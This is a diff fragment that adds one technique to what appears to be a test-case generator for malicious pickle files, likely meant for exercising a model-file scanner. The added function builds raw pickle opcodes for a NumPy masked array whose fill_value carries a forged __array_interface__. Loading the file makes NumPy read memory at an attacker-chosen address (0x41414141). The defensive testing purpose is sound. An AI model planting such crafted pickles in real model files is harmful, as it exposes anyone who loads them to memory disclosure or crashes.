@@ -545,6 +545,30 @@ def numpy_ndarray_over_bytes(m: Path) -> bytes:
     return program(call(glob("numpy", "ndarray"), shape, o8, binbytes(b"A" * 8)))
 
 
+@technique(
+    "numpy-array-interface-address", family="pickle", filename="model.pkl", expect=STATE_CALL
+)
+def numpy_array_interface(m: Path) -> bytes:
+    """A masked array whose fill_value is a SimpleNamespace given __array_interface__ by its
+    BUILD: pickle.load makes NumPy read memory at the address it names (0x41414141)."""
+    interface = EMPTY_DICT + MARK + uni("shape") + MARK + binint(1) + TUPLE + uni("typestr")
+    interface += uni("<f8") + uni("data") + MARK + binint(0x41414141) + b"\x88" + TUPLE
+    interface += uni("version") + binint(3) + b"u"
+    namespace = glob("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
+    namespace += EMPTY_DICT + uni("__array_interface__") + interface + b"s" + BUILD
+    made = call(
+        glob("numpy.ma.core", "_mareconstruct"),
+        glob("numpy.ma", "MaskedArray"),
+        glob("numpy", "ndarray"),
+        MARK + binint(0) + TUPLE,
+        binbytes(b"b"),
+    )
+    f8 = _dtype("f8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
+    state = MARK + binint(1) + MARK + binint(1) + TUPLE + f8 + b"\x89" + binbytes(bytes(8))
+    state += binbytes(b"\x00") + namespace + TUPLE
+    return program(made + state + BUILD)
+
+
 # --- Broken streams ---------------------------------------------------------------------------
 
 
